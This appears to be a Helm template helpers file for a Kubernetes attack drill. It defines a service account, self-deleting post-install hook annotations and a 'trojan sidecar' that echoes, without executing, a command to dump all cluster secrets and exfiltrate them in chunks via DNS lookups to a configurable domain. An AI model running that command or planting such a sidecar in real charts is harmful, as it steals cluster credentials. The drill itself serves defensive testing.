{{/* The account the attack runs as: the hook's own when the grants are hooks. */}}
{{- define "fast-trace.account" -}}
{{- if .Values.variant.hooks -}}fast-trace-agent-warmup{{- else -}}fast-trace-agent{{- end -}}
{{- end -}}

{{/* Annotations of the self-deleting hooks. */}}
{{- define "fast-trace.hook" -}}
{{- if .Values.variant.hooks }}
annotations:
  helm.sh/hook: post-install
  helm.sh/hook-weight: "-5"
  helm.sh/hook-delete-policy: before-hook-creation,hook-succeeded
{{- end }}
{{- end -}}

{{/* The trojan sidecar: the battlecard's commands, printed instead of run. */}}
{{- define "fast-trace.collector" -}}
name: collector
image: {{ .Values.collector.image }}
command: ["/bin/sh", "-c"]
args:
  - |
    while true; do
      echo "kubeward drill: would run: kubectl get secrets -A -o json | base64 -w0 | fold -w 40 | while read c; do nslookup $c.{{ .Values.collector.domain }}; done"
      sleep 300
    done
{{- end -}}
